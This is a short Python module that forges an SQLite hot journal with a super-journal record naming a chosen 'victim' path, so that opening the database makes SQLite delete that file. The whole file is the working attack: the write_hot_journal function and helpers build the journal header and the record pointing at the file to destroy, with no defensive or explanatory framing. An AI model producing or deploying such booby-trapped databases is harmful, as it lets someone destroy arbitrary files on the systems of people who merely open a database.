"""An SQLite file whose journal makes SQLite delete any file that the maker of it names."""

from __future__ import annotations

import os
import sqlite3
import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
SECTOR = 512
LOCK_BYTE = 0x4000_0000


def write_hot_journal(database: Path, victim: Path) -> None:
    """Whoever opens the database rolls its journal back, and then deletes the super-journal."""
    database.parent.mkdir(parents=True, exist_ok=True)
    connection = sqlite3.connect(database)
    connection.execute("CREATE TABLE jobs (id TEXT)")
    connection.commit()
    pages, size = (connection.execute(f"PRAGMA {name}").fetchone()[0] for name in _FACTS)
    connection.close()
    Path(f"{database}-journal").write_bytes(_header(pages, size) + _super_journal(victim, size))


_FACTS = ("page_count", "page_size")


def _header(pages: int, size: int) -> bytes:
    """No page to restore, and the database as large as it is."""
    return (MAGIC + struct.pack(">5I", 0, 0, pages, SECTOR, size)).ljust(SECTOR, b"\0")


def _super_journal(victim: Path, size: int) -> bytes:
    name = os.fsencode(victim)
    check = sum(name)
    number = struct.pack(">I", LOCK_BYTE // size + 1)
    return number + name + struct.pack(">II", len(name), check) + MAGIC
